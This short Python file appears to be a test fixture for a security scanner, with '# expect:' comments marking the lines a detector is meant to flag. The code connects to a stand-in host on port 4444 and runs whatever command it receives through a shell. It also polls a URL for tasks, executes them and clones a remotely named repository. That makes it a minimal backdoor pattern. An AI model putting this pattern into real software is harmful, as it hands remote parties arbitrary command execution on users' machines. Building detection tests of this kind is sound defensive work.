# commands received from the network run as they are
import socket
import subprocess
import requests

s = socket.create_connection(("192.0.2.8", 4444))
cmd = s.recv(1024).decode()
subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)  # expect: download-exec


def execute(command):
    return subprocess.run(command, shell=True, capture_output=True)  # expect: download-exec


def beacon():
    task = requests.get("https://example.org/cmd").json()
    execute(task["cmd"])
    subprocess.run(["git", "clone", task["repo"]])  # expect: perm-process
